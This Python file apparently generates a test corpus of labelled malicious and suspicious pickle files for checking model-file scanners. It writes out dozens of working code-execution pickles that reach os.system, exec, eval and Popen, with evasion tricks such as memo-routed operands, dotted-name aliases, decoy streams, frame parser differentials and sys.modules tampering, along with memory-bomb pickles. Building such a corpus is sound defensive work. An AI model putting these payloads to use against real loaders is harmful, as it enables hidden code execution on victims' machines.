"""Pickles that hide what they call from a reader of opcodes."""

import struct

from pickle_asm import PYTHON, SHELL, Build, Call, G, New, Persistent, Raw, asm, call, dump, op, push, system

OS_SYSTEM = op("GLOBAL", ("os", "system"))
RUN = op("UNICODE", SHELL) + op("TUPLE1") + op("REDUCE")
BENIGN = dump({"weights": [0.1, 0.2], "name": "model"})


def build(corpus):
    protocols(corpus)
    operands(corpus)
    stack(corpus)
    streams(corpus)
    names(corpus)
    state(corpus)
    machine(corpus)
    budgets(corpus)


def protocols(corpus):
    for proto in range(6):
        corpus.malicious(f"protocol-{proto}.pkl", "pickle", f"os.system in protocol {proto}", system(proto))
    corpus.malicious("protocol-4-unframed.pkl", "pickle", "protocol 4 without a frame", system(4, frame=False))
    corpus.malicious("protocol-none-stack-global.pkl", "pickle", "STACK_GLOBAL without PROTO, operands by STRING", asm(("STRING", "os"), ("STRING", "system"), "STACK_GLOBAL", ("STRING", SHELL), "TUPLE1", "REDUCE", "STOP"), ["GHSA-9gvj-pp9x-gcfr"])
    corpus.malicious("protocol-claimed-0.pkl", "pickle", "PROTO 0 before opcodes of protocol 4", asm(("PROTO", 0), push(call("os", "system", SHELL)), "STOP"))
    corpus.malicious("protocol-claimed-255.pkl", "pickle", "a protocol that does not exist before a payload: a lenient reader goes on", asm(("PROTO", 255), push(call("os", "system", SHELL)), "STOP"))
    corpus.malicious("opcode-inst.pkl", "pickle", "INST calls __builtin__.exec", asm("MARK", ("STRING", PYTHON), ("INST", ("__builtin__", "exec")), "STOP"))
    corpus.malicious("opcode-obj.pkl", "pickle", "OBJ calls os.system", asm("MARK", OS_SYSTEM, ("STRING", SHELL), "OBJ", "STOP"), ["fickling#108"])
    corpus.malicious("opcode-newobj.pkl", "pickle", "NEWOBJ makes a Popen", dump(New(G("subprocess", "Popen"), (["echo", "caiso"],))))
    corpus.malicious("opcode-newobj-ex.pkl", "pickle", "NEWOBJ_EX makes a Popen with keywords", asm(("PROTO", 4), push(G("subprocess", "Popen")), push((["echo", "caiso"],)), push({"shell": False}), "NEWOBJ_EX", "STOP"))
    corpus.malicious("opcode-next-buffer.pkl", "pickle", "an out-of-band buffer before the call", asm(("PROTO", 5), "NEXT_BUFFER", "READONLY_BUFFER", "POP", push(call("os", "system", SHELL), 5), "STOP"))


def operands(corpus):
    through_memo = asm(
        ("UNICODE", "os"), ("PUT", 2), "POP", ("UNICODE", "system"), ("PUT", 3), "POP",
        ("UNICODE", "torch"), ("PUT", 0), "POP", ("UNICODE", "LongStorage"), ("PUT", 1), "POP",
        ("GET", 2), ("GET", 3), "STACK_GLOBAL", RUN, "STOP",
    )
    corpus.malicious("operands-memo.pkl", "pickle", "operands of STACK_GLOBAL come from the memo, decoys were stored last", through_memo, ["picklescan#22"])
    corpus.malicious("operands-memo-trailing.pkl", "pickle", "the same with bytes after STOP that are no pickle", through_memo + b"\n\n\t\t", ["picklescan#22"])
    padded = asm(("PROTO", 4), push("os"), "MEMOIZE", "POP", push("system"), "MEMOIZE", "POP", *[push(f"layer{i}") + op("POP") for i in range(40)], ("BINGET", 0), ("LONG_BINGET", 1), "STACK_GLOBAL", RUN, "STOP")
    corpus.malicious("operands-memo-padding.pkl", "pickle", "forty strings between the operands and STACK_GLOBAL", padded, ["agent-bom#3326"])
    dup = asm(("PROTO", 4), push("os"), push("system"), "DUP", "POP", "STACK_GLOBAL", RUN, "STOP")
    corpus.malicious("operands-dup.pkl", "pickle", "DUP and POP between the operands and STACK_GLOBAL", dup)
    mark = asm(("PROTO", 4), push("os"), push("system"), "MARK", push("torch"), push("Tensor"), "POP_MARK", "STACK_GLOBAL", RUN, "STOP")
    corpus.malicious("operands-pop-mark.pkl", "pickle", "decoy strings removed by POP_MARK before STACK_GLOBAL", mark)
    key_error = asm(("PROTO", 4), OS_SYSTEM, RUN, "POP", push("os"), "MEMOIZE", ("BINGET", 3), ("BINGET", 0), "STACK_GLOBAL", ("BININT1", 66), "STOP")
    corpus.malicious("operands-missing-memo.pkl", "pickle", "after the call a memo entry is missing: a reader that recovers operands fails", key_error, ["GHSA-9gvj-pp9x-gcfr"])
    confusion = asm(("PROTO", 4), OS_SYSTEM, RUN, "POP", ("BININT", 42), "MEMOIZE", push("os"), "MEMOIZE", ("BINGET", 0), ("BINGET", 1), "STACK_GLOBAL", ("BININT1", 66), "STOP")
    corpus.malicious("operands-type-confusion.pkl", "pickle", "after the call an integer is an operand of STACK_GLOBAL", confusion, ["GHSA-9gvj-pp9x-gcfr"])
    computed = Raw(push(Call(call("builtins", "getattr", "", "join"), (["o", "s"],))) + push("system") + op("STACK_GLOBAL"))
    corpus.malicious("operands-computed.pkl", "pickle", "the module operand is the result of a call", dump(Call(computed, (SHELL,))))
    replaced = Raw(push(Call(call("builtins", "getattr", "xs.system", "replace"), ("x", "o"))) + op("POP") + push("os") + push("system") + op("STACK_GLOBAL"))
    corpus.malicious("operands-after-call.pkl", "pickle", "a popped call stands before the operands", dump(Call(replaced, (SHELL,))))
    overwritten = asm(("PROTO", 4), push("collections"), ("BINPUT", 0), "POP", push("os"), ("BINPUT", 0), "POP", push("system"), ("BINPUT", 1), "POP", ("BINGET", 0), ("BINGET", 1), "STACK_GLOBAL", RUN, "STOP")
    corpus.malicious("operands-memo-overwritten.pkl", "pickle", "a memo entry is overwritten before it is used", overwritten)
    negative = asm(("PROTO", 2), ("UNICODE", "os"), ("PUT", "-1"), "POP", OS_SYSTEM, RUN, "STOP")
    corpus.malicious("operands-negative-memo.pkl", "pickle", "a negative memo index, which the C and Python readers treat apart, before a call", negative)


def stack(corpus):
    corpus.malicious("pop-reduce.pkl", "pickle", "the result of the call is popped, the pickle is a plain dict", asm(("PROTO", 4), push(call("os", "system", SHELL)), "POP", push({"weights": [1, 2]}), "STOP"))
    obj = asm(("PROTO", 4), "MARK", push(G("smtplib", "SMTP")), push("caiso.invalid"), "OBJ", "POP", "NONE", "STOP")
    corpus.malicious("pop-obj.pkl", "pickle", "the result of OBJ is popped", obj, ["GHSA-mxhj-88fx-4pcv"])
    inst = asm("MARK", ("STRING", SHELL), ("INST", ("os", "system")), "POP", "NONE", "STOP")
    corpus.malicious("pop-inst.pkl", "pickle", "the result of INST is popped", inst, ["GHSA-mxhj-88fx-4pcv"])
    marked = asm(("PROTO", 4), "MARK", push(call("os", "system", SHELL)), "POP_MARK", push([1]), "STOP")
    corpus.malicious("pop-mark-call.pkl", "pickle", "the result of the call is popped with its mark", marked)
    build_popped = asm(("PROTO", 4), push(Build(call("os", "system", SHELL), "unused")), "STOP")
    corpus.malicious("build-string-state.pkl", "pickle", "BUILD with a string state follows the call, which a decompiler may fold away", build_popped, ["GHSA-r7v6-mfhq-g3m2"])
    unused = asm(("PROTO", 4), push(call("builtins", "Exception")), ("BINPUT", 0), push({"status": call("os", "system", SHELL)}), "BUILD", "STOP")
    corpus.malicious("build-exception-state.pkl", "pickle", "the call sits in the state of an exception", unused, ["GHSA-5hvc-6wx8-mvv4"])
    leftovers = asm(("PROTO", 4), push(call("os", "system", SHELL)), "MARK", ("BININT1", 1), "STOP")
    corpus.malicious("stack-leftovers.pkl", "pickle", "values and a mark are left on the stack at STOP", leftovers, ["cpython#127079"])
    duplicate = asm(("PROTO", 4), OS_SYSTEM, "DUP", "POP", RUN, "STOP")
    corpus.malicious("stack-dup-callable.pkl", "pickle", "the callable is duplicated and one copy popped", duplicate)
    key = asm(("PROTO", 4), "EMPTY_DICT", push(call("os", "system", SHELL)), push(1), "SETITEM", "STOP")
    corpus.malicious("call-as-key.pkl", "pickle", "the call is a dictionary key", key)
    items = asm(("PROTO", 4), push(Call(G("collections", "OrderedDict"))), "MARK", push("a"), push(call("os", "system", SHELL)), "SETITEMS", "STOP")
    corpus.malicious("call-in-ordereddict.pkl", "pickle", "the call is a value of an OrderedDict", items)
    members = asm(("PROTO", 4), "EMPTY_SET", "MARK", push(call("os", "system", SHELL)), "ADDITEMS", "STOP")
    corpus.malicious("call-in-set.pkl", "pickle", "the call is a member of a set", members)
    frozen = asm(("PROTO", 4), "MARK", push(call("os", "system", SHELL)), "FROZENSET", "STOP")
    corpus.malicious("call-in-frozenset.pkl", "pickle", "the call is a member of a frozen set", frozen)
    persistent = asm(("PROTO", 2), push(Persistent(call("os", "system", SHELL)), 2), "STOP")
    corpus.malicious("call-in-persistent-id.pkl", "pickle", "the call is inside a persistent identifier", persistent)
    underflow = asm(("PROTO", 4), push(call("os", "system", SHELL)), "POP", "POP", "POP", "STOP")
    corpus.malicious("stack-underflow-after.pkl", "pickle", "the stack underflows after the call", underflow)


def streams(corpus):
    corpus.malicious("second-stream.pkl", "pickle", "a benign pickle, then a payload", BENIGN + system())
    corpus.malicious("third-stream-protocol-0.pkl", "pickle", "two benign pickles, then a payload of protocol 0", BENIGN + dump([1], 2) + system(0))
    corpus.malicious("padding-zeros.pkl", "pickle", "a benign pickle, 4 KiB of zeros, then a payload", BENIGN + bytes(4096) + system())
    corpus.malicious("padding-text.pkl", "pickle", "a benign pickle, line ends and blanks, then a payload of protocol 0", BENIGN + b"\r\n \t" * 64 + system(0))
    corpus.malicious("padding-leading.pkl", "pickle", "zeros before the payload", bytes(64) + system())
    corpus.malicious("truncated-after-call.pkl", "pickle", "the file ends without STOP after the call", system()[:-1])
    corpus.malicious("truncated-in-string.pkl", "pickle", "the file ends inside a string after the call", asm(OS_SYSTEM, RUN) + b"X\x40\x00\x00\x00cut")
    broken = b"cbuiltins\nexec\n(X\x0e\x00\x00\x00print('caiso')tRX."
    corpus.malicious("broken-after-call.pkl", "pickle", "an undecodable string follows the call", broken)
    unknown = asm(("PROTO", 4), push({"a": 1}), "POP") + b"\xff\xfe" + push(call("os", "system", SHELL)) + b"."
    corpus.malicious("unknown-opcode-then-call.pkl", "pickle", "an unknown opcode stops a strict reader before the payload", unknown)
    reentry = asm(("PROTO", 4), push({"a": 1}), "STOP") + b"\x00\xffjunk\x00" + system(2)
    corpus.malicious("junk-then-stream.pkl", "pickle", "junk between a benign pickle and a payload", reentry)
    corpus.malicious("proto-in-middle.pkl", "pickle", "PROTO stands again in the middle of the stream", asm(("PROTO", 4), push([1]), "POP", ("PROTO", 2), OS_SYSTEM, RUN, "STOP"))
    corpus.suspicious("truncated-benign.pkl", "pickle", "a benign pickle cut in half", dump(list(range(200)))[:300])
    corpus.suspicious("unknown-opcode.pkl", "pickle", "an unknown opcode in a benign pickle", asm(("PROTO", 4), push([1, 2])) + b"\xf0.")
    corpus.suspicious("trailing-random.pkl", "pickle", "bytes of no format follow a benign pickle", BENIGN + bytes((i * i * 31 + 7 * i) & 0xFF for i in range(512)))


def names(corpus):
    corpus.malicious("name-dotted.pkl", "pickle", "logging's attribute os.system is named with dots", dump(call("logging", "os.system", SHELL)), ["GHSA-5j3x-jp52-966f"])
    corpus.malicious("name-dotted-torch.pkl", "pickle", "torch.library re-exports torch.utils.collect_env.run", dump(call("torch.library", "torch.utils.collect_env.run", SHELL)), ["modelscan#338", "saferpickle#18"])
    corpus.malicious("name-dotted-numpy.pkl", "pickle", "a private module of numpy re-exports os.popen", dump(call("numpy.testing._private.utils", "os.popen", SHELL)))
    corpus.malicious("name-dotted-collections.pkl", "pickle", "collections' attribute _sys.modules is reached", dump(call("collections", "_sys.exit", 0)))
    corpus.malicious("name-dotted-subclasses.pkl", "pickle", "object's subclasses are listed from a dotted name", dump(call("builtins", "object.__subclasses__")))
    corpus.malicious("name-dotted-globals.pkl", "pickle", "the globals of an allowed class are reached", dump(call("collections", "OrderedDict.__init__.__globals__.get", "os")))
    corpus.malicious("name-alias-posixpath.pkl", "pickle", "posixpath re-exports os", dump(call("posixpath", "os.system", SHELL)))
    corpus.malicious("name-alias-ntpath.pkl", "pickle", "a module of the standard library re-exports subprocess", dump(call("ctypes.util", "subprocess.getoutput", SHELL)))
    corpus.malicious("name-alias-builtin.pkl", "pickle", "numpy re-exports builtins", dump(call("numpy", "__builtins__.eval", PYTHON)))
    corpus.malicious("name-python2.pkl", "pickle", "the Python 2 name cPickle, mapped on loading", dump(call("cPickle", "loads", b"N."), 2))
    corpus.malicious("name-python2-httplib.pkl", "pickle", "the Python 2 name httplib, mapped on loading", dump(call("httplib", "HTTPSConnection", "caiso.invalid"), 0))
    corpus.malicious("name-python2-urllib.pkl", "pickle", "the Python 2 name urllib2, mapped on loading", dump(call("urllib2", "urlopen", "https://caiso.invalid/"), 1))
    latin = op("PROTO", 2) + b"cos\nsyst\xe9m\n" + push(("caiso",), 2) + b"R" + b"0" + OS_SYSTEM + RUN + b"."
    corpus.malicious("name-not-utf8.pkl", "pickle", "a name that is not UTF-8 stands before the call", latin)
    wide = dump(call("os", "ｓystem", SHELL))
    corpus.suspicious("name-fullwidth.pkl", "pickle", "a full-width letter in the name: not os.system, but made to look like it", wide)
    surrogate = asm(("PROTO", 4), push("\ud800"), "POP", push(call("os", "system", SHELL)), "STOP")
    corpus.malicious("name-surrogate.pkl", "pickle", "a lone surrogate in a string before the call", surrogate)
    corpus.malicious("name-null.pkl", "pickle", "an empty module name before the call", asm(("PROTO", 4), push(""), push("x"), "POP", "POP", push(call("os", "system", SHELL)), "STOP"))
    blank = b"cos \nsystem\n(S'echo caiso'\ntR0" + b"cos\nsystem\n(S'echo caiso'\ntR."
    corpus.malicious("name-trailing-blank.pkl", "pickle", "a name with a blank, then the true one", blank)
    carriage = b"cos\r\nsystem\r\n(S'echo caiso'\r\ntR."
    corpus.suspicious("name-carriage-return.pkl", "pickle", "lines end with carriage returns: CPython finds no such module, a converter may", carriage)
    comment = b"#\n" * 3 + b"cos\nsystem\n(S'echo caiso'\ntR."
    corpus.malicious("prefix-comment.pkl", "pickle", "comment lines before a payload of protocol 0 keep a sniffer away", comment, ["modelaudit#1547"])
    source = b"use strict\n" + system(0)
    corpus.malicious("prefix-source.pkl", "pickle", "the file begins like source text", source, ["saferpickle#41"])
    corpus.malicious("import-only-os.pkl", "pickle", "os.system is imported and kept, not called: an attribute for later", dump({"activation": G("os", "system")}))
    corpus.suspicious("import-unknown.pkl", "pickle", "a class of an unknown package is rebuilt with state", dump(Build(New(G("acme_models.nets", "Classifier")), {"w": [1.0]})))


def state(corpus):
    fake_builtins = asm(
        ("PROTO", 4), push(G("numpy", "size")), "MEMOIZE", "MEMOIZE", push(G("numpy", "__builtins__")), "MEMOIZE", "MEMOIZE",
        ("BINGET", 1), "EMPTY_DICT", "EMPTY_DICT", push("shape"), ("BINGET", 3), "SETITEM", "TUPLE2", "BUILD",
        ("BINGET", 1), ("BINGET", 1), push("eval"), "TUPLE2", "REDUCE", push(PYTHON), "TUPLE1", "REDUCE", "STOP",
    )
    corpus.malicious("build-numpy-slots.pkl", "pickle", "BUILD sets attributes of a numpy function until it returns eval", fake_builtins, ["modelscan#330"])
    attributes = asm(
        ("PROTO", 4), push(G("numpy", "prod")), "NONE", push({"a": "os"}), "TUPLE2", "BUILD", "NONE", push({"b": "system"}), "TUPLE2", "BUILD", "POP",
        ("GLOBAL", ("numpy", "prod.a")), ("PUT", 0), "POP", ("GLOBAL", ("numpy", "prod.b")), ("PUT", 1), "POP",
        ("GET", 0), ("GET", 1), "STACK_GLOBAL", push((SHELL,)), "REDUCE", "STOP",
    )
    corpus.malicious("build-stored-names.pkl", "pickle", "BUILD stores the operands as attributes, dotted names fetch them", attributes, ["modelscan#85"])
    setstate = Build(New(G("torch.nn.modules.linear", "Linear")), {"forward": G("os", "system")})
    corpus.malicious("build-forward.pkl", "pickle", "BUILD replaces the forward method of a layer by os.system", dump(setstate))
    class_state = Build(G("collections", "OrderedDict"), (None, {"__reduce__": G("builtins", "eval")}))
    corpus.malicious("build-on-class.pkl", "pickle", "BUILD sets an attribute of a class itself", dump(class_state))
    modules = Build(G("sys", "modules"), {"os": None})
    corpus.malicious("build-sys-modules.pkl", "pickle", "BUILD rewrites sys.modules", dump(modules))
    item = asm(("PROTO", 4), push(G("sys", "modules")), push("numpy"), push(call("builtins", "__import__", "os")), "SETITEM", "POP", push(G("numpy", "system")), push((SHELL,)), "REDUCE", "STOP")
    corpus.malicious("setitem-sys-modules.pkl", "pickle", "a module is put in the place of numpy, then used under that name", item, ["picklescan:sys_module_override_sploit.pkl"])
    environ = asm(("PROTO", 4), push(G("os", "environ")), push("PYTHONSTARTUP"), push("/dev/null"), "SETITEM", "STOP")
    corpus.malicious("setitem-environ.pkl", "pickle", "an environment variable is set", environ)
    path = asm(("PROTO", 4), push(G("sys", "path")), push("/dev/null"), "APPEND", "STOP")
    corpus.malicious("append-sys-path.pkl", "pickle", "a folder is added to the import path", path)
    registry = asm(("PROTO", 2), push(G("copyreg", "_extension_registry"), 2), push(("os", "system"), 2), push(7, 2), "SETITEM", "POP", push(G("copyreg", "_inverted_registry"), 2), push(7, 2), push(("os", "system"), 2), "SETITEM", "POP", ("EXT1", 7), push((SHELL,), 2), "REDUCE", "STOP")
    corpus.malicious("extension-registry.pkl", "pickle", "os.system is registered as an extension code, then used by EXT1", registry)
    added = asm(("PROTO", 2), push(call("copyreg", "add_extension", "os", "system", 500), 2), "POP", ("EXT2", 500), push((SHELL,), 2), "REDUCE", "STOP")
    corpus.malicious("extension-added.pkl", "pickle", "copyreg.add_extension, then EXT2", added)
    corpus.suspicious("extension-unknown.pkl", "pickle", "EXT4 with a code that this file does not define", asm(("PROTO", 2), ("EXT4", 70000), push((1,), 2), "REDUCE", "STOP"))
    corpus.suspicious("persistent-unknown.pkl", "pickle", "a persistent identifier outside of a torch file", asm(("PERSID", "caiso"), "STOP"))
    metaclass = call("builtins", "type", "Model", (), {"__reduce__": G("builtins", "eval")})
    corpus.malicious("type-new-class.pkl", "pickle", "type makes a class whose method is eval", dump(metaclass))
    finalizer = call("weakref", "finalize", New(G("builtins", "object")), G("os", "system"), SHELL)
    corpus.malicious("weakref-finalize.pkl", "pickle", "os.system is registered for the end of the process", dump(finalizer))
    atexit = call("atexit", "register", G("os", "system"), SHELL)
    corpus.malicious("atexit-register.pkl", "pickle", "os.system is registered at exit", dump(atexit))


def machine(corpus):
    # The C reader steps over the frame end inside an argument, the Python one refuses:
    # what follows is text to the one and opcodes to the other (cpython issue 154848).
    call_print = asm(("GLOBAL", ("os", "system")), ("UNICODE", SHELL), "TUPLE1", "REDUCE")
    inner = (call_print + op("MARK")).ljust(261, b"N") + op("POP_MARK")
    frame = asm(("PROTO", 5), "NONE", ("UNICODE", "a" * (8192 * 16 - 17)), "POP", "MARK", ("FRAME", 2)) + b"B\x07\x01\x00\x00" + b"\x00\x00" + inner + b"."
    corpus.malicious("frame-boundary.pkl", "pickle", "an argument goes over the end of its frame: two readers see different opcodes", frame, ["cpython#154848"])
    short = asm(("PROTO", 4), ("FRAME", 3)) + push(call("os", "system", SHELL)) + b"."
    corpus.malicious("frame-too-short.pkl", "pickle", "the frame ends inside the first opcode", short, ["cpython#128853"])
    long = asm(("PROTO", 4), ("FRAME", 1 << 20)) + push(call("os", "system", SHELL)) + b"."
    corpus.malicious("frame-too-long.pkl", "pickle", "the frame is longer than the file", long, ["cpython#128853"])
    nested = asm(("PROTO", 4), ("FRAME", 60), push([1]), "POP", ("FRAME", 10), push(call("os", "system", SHELL)), "STOP")
    corpus.malicious("frame-in-frame.pkl", "pickle", "a frame begins inside another one", nested, ["cpython#128853"])
    # Exception-oriented programming: the call happens, then loading fails on purpose.
    raising = asm(("PROTO", 4), push(call("os", "system", SHELL)), "POP", push(call("builtins", "int", "caiso")), "STOP")
    corpus.malicious("exception-after-call.pkl", "pickle", "the payload runs, then a conversion raises on purpose", raising, ["arXiv:2508.19774"])
    missing = asm(("PROTO", 4), push(call("os", "system", SHELL)), "POP", push(G("caiso_missing_module", "x")), "STOP")
    corpus.malicious("exception-missing-module.pkl", "pickle", "the payload runs, then a module is missing on purpose", missing, ["arXiv:2508.19774"])
    unhashable = asm(("PROTO", 4), push(call("os", "system", SHELL)), "POP", "EMPTY_DICT", "EMPTY_LIST", "NONE", "SETITEM", "STOP")
    corpus.malicious("exception-unhashable.pkl", "pickle", "the payload runs, then a list is used as a key", unhashable, ["arXiv:2508.19774"])
    early = asm(("PROTO", 4), push(call("os", "system", SHELL)), "POP", ("BINGET", 200), "STOP")
    corpus.malicious("exception-missing-memo.pkl", "pickle", "the payload runs, then an unknown memo entry is fetched", early, ["arXiv:2508.19774"])
    escape = b"S'caf\\xe'\n0" + OS_SYSTEM + RUN + b"."
    corpus.malicious("string-bad-escape.pkl", "pickle", "a string with a bad escape, which some readers refuse, before the call", escape)
    quoted = b"S\"it's\"\n0" + OS_SYSTEM + RUN + b"."
    corpus.malicious("string-double-quotes.pkl", "pickle", "a string in double quotes before the call", quoted)
    integers = b"L99999999999999999999L\n0I00\n0I01\n0F1e400\n0" + OS_SYSTEM + RUN + b"."
    corpus.malicious("numbers-odd.pkl", "pickle", "huge, boolean and infinite numbers in text before the call", integers)
    underscore = b"I1_000\n0" + OS_SYSTEM + RUN + b"."
    corpus.malicious("numbers-underscore.pkl", "pickle", "an integer with an underscore, which Python accepts, before the call", underscore)
    negative = op("PROTO", 2) + b"T\xff\xff\xff\xff" + OS_SYSTEM + RUN + b"."
    corpus.malicious("length-negative.pkl", "pickle", "a string with a negative length before the call", negative)
    bytearray8 = asm(("PROTO", 5), ("BYTEARRAY8", b"caiso"), "POP", push(call("os", "system", SHELL), 5), "STOP")
    corpus.malicious("bytearray8-before.pkl", "pickle", "BYTEARRAY8 and FLOAT, which some readers lack, before the call", bytearray8)


def budgets(corpus):
    bomb = op("PROTO", 4) + push("x" * 32) + op("MEMOIZE")
    for index in range(24):
        bomb += op("BINGET", index) * 2 + op("TUPLE2") + op("MEMOIZE")
    corpus.suspicious("bomb-memo.pkl", "pickle", "each tuple holds the one before twice: exponential when copied", bomb + b".")
    corpus.suspicious("bomb-nesting.pkl", "pickle", "50,000 lists inside one another", op("PROTO", 2) + b"]" * 50000 + b"a" * 49999 + b".")
    declared = op("PROTO", 4) + b"\x8d" + struct.pack("<Q", 1 << 40) + b"x."
    corpus.suspicious("length-terabyte.pkl", "pickle", "a string that claims a terabyte", declared)
    memo = op("PROTO", 2) + b"N" + op("LONG_BINPUT", 0xFFFFFFFF) + b"."
    corpus.suspicious("memo-index-huge.pkl", "pickle", "a memo index of four billion, for which the C reader allocates", memo)
